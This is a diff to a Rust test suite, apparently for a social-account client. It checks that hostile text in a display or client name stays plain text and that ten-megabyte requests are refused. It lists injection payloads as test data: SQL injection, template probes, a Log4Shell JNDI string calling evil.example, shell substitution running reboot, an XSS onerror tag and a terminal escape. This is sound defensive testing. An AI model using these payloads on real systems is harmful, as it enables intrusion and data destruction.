@@ -1,9 +1,11 @@
-//! How much a stranger's server says is not how much a person sees or the store keeps.
+//! How much a stranger's server or a page says is not how much a person sees or the store keeps, and
+//! whatever it says stays text.
 
 use domain::LONGEST_NAME;
 use journeys::stage::{Stage, Told};
+use wire::{AppField, ClientNameProblemCode, Failure, HostProblemCode, Request};
 
-use crate::people::alice;
+use crate::people::{ALICE, INSTANCE, alice, green};
 
 #[tokio::test]
 async fn a_name_of_a_megabyte_is_a_name_in_the_list_and_stays_one() -> Told {
@@ -22,5 +24,136 @@ async fn a_name_of_a_megabyte_is_a_name_in_the_list_and_stays_one() -> Told {
         assert_eq!(letters, [Some(LONGEST_NAME)]);
         stage.look().await?;
     }
+    Ok(())
+}
+
+/// What other programs would run, expand or draw.
+const TEXTS: [&str; 9] = [
+    "'; DROP TABLE locations; --",
+    "\" OR \"\"=\"",
+    "x'); DELETE FROM grants WHERE (1=1",
+    "{{7*7}} <%= 7*7 %> #{7*7}",
+    "${jndi:ldap://evil.example/a}",
+    "%s%n%x %2527",
+    "$(reboot) `reboot` | reboot",
+    "<img src=x onerror=alert(1)>",
+    "\u{1b}]0;owned\u{7}",
+];
+
+#[tokio::test]
+async fn what_other_programs_would_run_is_a_name_here() -> Told {
+    let mut stage = Stage::set().await?;
+    stage.add_account(&mut alice()).await?;
+    let id = stage.location(ALICE).await?.id;
+    for text in TEXTS {
+        let name = serde_json::json!(text).to_string();
+        stage.line.plain();
+        stage.line.reword(
+            "/verify_credentials",
+            "\"display_name\":",
+            &format!("\"display_name\":{name},\"was\":"),
+        );
+        stage.look().await?;
+        // What a person types and cannot see is refused.
+        if !text.contains(char::is_control) {
+            let name = text.to_owned();
+            stage.ask(Request::AddClient { name }).await?;
+        }
+        let seen = stage.snapshot().await?;
+        let [one] = seen.locations.as_slice() else {
+            panic!("one location is left after {text}");
+        };
+        assert_eq!(one.name.as_deref(), Some(text));
+        assert!(green(&one.health), "{text}");
+    }
+    let stage = stage.restart().await?;
+    let seen = stage.snapshot().await?;
+    assert_eq!(seen.locations.len(), 1);
+    assert_eq!(seen.locations[0].id, id);
+    assert_eq!(seen.locations[0].name.as_deref(), TEXTS.last().copied());
+    assert!(seen.clients.len() >= TEXTS.len() - 1);
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_request_of_ten_megabytes_is_refused_by_what_is_wrong_with_it() -> Told {
+    let mut stage = Stage::set().await?;
+    let card = stage.begin_adding("mastodon", Some(INSTANCE)).await?;
+    let long = || "x".repeat(10_000_000);
+    let facebook = || "facebook".to_owned();
+    for (request, wanted) in [
+        (
+            Request::AddLocation {
+                network: "mastodon".to_owned(),
+                host: Some(long() + ".example"),
+                client: None,
+            },
+            Failure::BadHost {
+                problem: HostProblemCode::TooLong,
+            },
+        ),
+        (
+            Request::AddLocation {
+                network: long(),
+                host: None,
+                client: None,
+            },
+            Failure::Malformed,
+        ),
+        (
+            Request::PasteAddress {
+                attempt: card.attempt.clone(),
+                address: long(),
+            },
+            Failure::BadAddress,
+        ),
+        (
+            Request::Connect {
+                location: long(),
+                surface: None,
+            },
+            Failure::Malformed,
+        ),
+        (
+            Request::AddClient { name: long() },
+            Failure::BadClientName {
+                problem: ClientNameProblemCode::TooLong,
+            },
+        ),
+        (
+            Request::SaveApp {
+                network: facebook(),
+                client_id: long(),
+                client_secret: "s".repeat(32),
+            },
+            Failure::BadApp {
+                field: AppField::ClientId,
+            },
+        ),
+        (
+            Request::SaveApp {
+                network: facebook(),
+                client_id: "1".to_owned(),
+                client_secret: long(),
+            },
+            Failure::BadApp {
+                field: AppField::ClientSecret,
+            },
+        ),
+        (
+            Request::AddToken {
+                network: facebook(),
+                host: None,
+                client: None,
+                token: long(),
+            },
+            Failure::BadToken,
+        ),
+        (Request::ShowInFolder { path: long() }, Failure::Gone),
+    ] {
+        assert_eq!(stage.refusal(request).await?, wanted);
+    }
+    let seen = stage.snapshot().await?;
+    assert!(seen.clients.is_empty() && seen.locations.is_empty());
     Ok(())
 }
